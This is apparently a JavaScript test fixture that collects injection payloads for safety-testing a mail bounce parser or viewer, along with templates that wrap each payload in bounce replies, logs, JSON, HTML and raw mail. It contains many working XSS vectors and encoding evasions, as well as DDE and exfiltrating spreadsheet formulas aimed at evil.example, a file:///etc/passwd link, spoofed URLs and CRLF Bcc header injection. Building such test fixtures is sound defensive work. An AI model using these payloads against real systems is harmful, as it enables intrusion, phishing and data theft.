// What attackers write into mail, as texts that a bounce may quote: markup, scripts, links, marks that turn the direction of a
// text, terminal escapes, formulas, header lines. If one ever runs, it sets `window.pwned`.

const RUN = 'window.pwned=1';

const ELEMENTS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'audio src=x onerror',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'marquee onstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onerror',
  'link rel=stylesheet href=x onerror',
  'style onload',
  'div style=animation-name:x onanimationstart',
  'a href=# onclick',
  'form onsubmit',
  'math onfocus tabindex=1',
];

const QUOTES = [(code) => `"${code}"`, (code) => `'${code}'`, (code) => code];

const markup = ELEMENTS.flatMap((element) => QUOTES.map((quote) => `<${element}=${quote(RUN)}>`));

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\n>${RUN}</script >`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=data:,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>\u2028${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--><script>${RUN}</script>-->`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><script>${RUN}</script></xmp>`,
  `<plaintext><script>${RUN}</script>`,
];

const vectors = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<math><mi><style><!--</style><img src=x onerror=${RUN}>--></style></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<table><td background="javascript:${RUN}">`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<portal src="javascript:${RUN}">`,
  `<x onpointerenter=${RUN} style=position:fixed;inset:0>`,
  `<a id=x tabindex=1 onfocus=${RUN}></a>`,
  `<p style="background:url('javascript:${RUN}')">`,
];

const encoded = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&#0000060img src=x onerror=${RUN}&#0000062`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `%253Cimg src=x onerror=${RUN}%253E`,
  `=3Cimg src=3Dx onerror=3D${RUN}=3E`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `+ADw-img src=x onerror=${RUN}+AD4-`,
  `＜img src=x onerror=${RUN}＞`,
  `<img src=x\u0000 onerror=${RUN}>`,
  `<\u0000img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\tsrc=x\nonerror\r=${RUN}>`,
  `<img src=x onerror\u000b=${RUN}>`,
  `<IMG SRC=x ONERROR=${RUN}>`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
];

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}${RUN}{%endraw%}`,
  `[[${RUN}]]`,
  `{ $recipient }`,
  `\u0001a\u0002b\u0003none\u0004x\u0005y\u0006`,
  `__proto__[pwned]=1`,
];

const links = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+`,
  `blob:https://example.com/0-0`,
  `file:///etc/passwd`,
  `view-source:https://example.com`,
  `https://accounts.google.com@evil.example/`,
  `https://support.google.com.evil.example/mail/?p=NoSuchUser`,
  `https://evil.example/https://support.google.com/mail/?p=NoSuchUser`,
  `https://support.google.com\\@evil.example/`,
  `https://support.google.com%2f@evil.example/`,
  `https://support.google.com:443@evil.example/`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https://xn--googl-fsa.com/`,
  `https://gооgle.com/`,
  `https://support。google。com.evil.example/`,
  `https://evil.example/\u202egnp.exe`,
  `[click](javascript:${RUN})`,
  `[click](<javascript:${RUN}>)`,
  `[x]: javascript:${RUN}`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="https://evil.example">https://support.google.com/</a>`,
  `**bold** _it_ \`code\` # head\n> quote\n- item\n1. item\n| a | b |\n~~~`,
];

const directions = [
  `\u202e550 dekcolb resu`,
  `\u2066\u202e\u2067 gpj.exe`,
  `user\u202e@example.com`,
  `\u200f\u200e\u061cexample.com`,
  `a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301`,
  `раураl.com`,
  `jаn@example.com`,
  `\u2028\u2029\u0085`,
  `\ufeff\u200b\u200d\u2060`,
  `\ufff9hidden\ufffashown\ufffb`,
];

const terminals = [
  `\u001b[31mred\u001b[0m`,
  `\u001b]0;title\u0007`,
  `\u001b]8;;javascript:${RUN}\u0007click\u001b]8;;\u0007`,
  `\u009b31m`,
  `\u001bP+q\u001b\\`,
  `\u0007\u0008\u000c\u007f`,
  `\r\u001b[2K550 2.0.0 OK`,
];

const formulas = [
  `=cmd|'/c calc'!A1`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `=IMPORTXML("https://evil.example","//a")`,
  `+1+cmd|'/c calc'!A1`,
  `-1+cmd|'/c calc'!A1`,
  `@SUM(1+1)*cmd|'/c calc'!A1`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `;=1+1`,
  `",=1+1,"`,
  `＝1+1`,
];

const headers = [
  `x\r\nBcc: victim@example.com`,
  `x\nTo: victim@example.com\n\nbody`,
  `x%0d%0aBcc:victim@example.com`,
  `x\u2028Bcc: victim@example.com`,
  `Recipient: somebody@example.com`,
  `Reply code: 250`,
  `x\r\n.\r\nMAIL FROM:<x@example.com>`,
];

/** All of them, each once, by the name of its kind. */
export const PAYLOADS = Object.entries({
  markup,
  scripts,
  vectors,
  encoded,
  templates,
  links,
  directions,
  terminals,
  formulas,
  headers,
}).flatMap(([kind, list]) => [...new Set(list)].map((payload) => ({ kind, payload })));

/** The forms of input that a payload can stand in, as a person pastes them or opens them as bytes. */
export const FORMS = {
  reply: (payload) => `550 5.7.1 <jan@example.com>: refused because of ${payload}`,
  'several lines': (payload) => `550-5.1.1 ${payload.replace(/[\r\n]+/g, '\r\n550-5.1.1 ')}\r\n550 5.1.1 User unknown`,
  recipient: (payload) => `550 5.1.1 <${payload}@example.com>: Recipient address rejected: User unknown`,
  transcript: (payload) =>
    `S: 220 mx.example.com ${payload}\nC: EHLO me\nS: 250 ok\nC: MAIL FROM:<a@example.com>\nS: 250 ok\nC: RCPT TO:<${payload}>\nS: 550 5.1.1 ${payload}`,
  log: (payload) =>
    `Nov 23 12:00:01 mail postfix/smtp[1]: 4F1A2B3C4D: to=<${payload}@example.com>, relay=mx.example.com[192.0.2.1]:25, dsn=5.7.1, status=bounced (host mx.example.com[192.0.2.1] said: 550 5.7.1 ${payload})`,
  error: (payload) => `Error: Message failed: 550 5.7.1 ${payload}\n    at SMTPConnection (smtp.js:1:1)`,
  json: (payload) => JSON.stringify({ event: 'bounce', email: 'jan@example.com', reason: `550 5.1.1 ${payload}` }),
  html: (payload) => `<p>The response was:</p><p>550 5.7.1 ${payload}</p>`,
  notice: (payload) =>
    `This is the mail system at host mx.example.com.\n\n<jan@example.com>: host mail.example.org[192.0.2.9] said: 550 5.1.1\n    ${payload} (in reply to RCPT TO command)`,
  fields: (payload) =>
    `Final-Recipient: rfc822; ${payload}\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 ${payload}`,
  mail: (payload) =>
    new TextEncoder().encode(
      `From: MAILER-DAEMON@mx.example.com\r\nTo: anna@example.com\r\nSubject: Undelivered: ${payload.replace(/[\r\n]+/g, ' ')}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>${payload}</p>\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.com\r\n\r\nFinal-Recipient: rfc822; jan@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 ${payload}\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: ${payload.replace(/[\r\n]+/g, ' ')}\r\nFrom: anna@example.com\r\n\r\nhello\r\n--b--\r\n`,
    ),
};
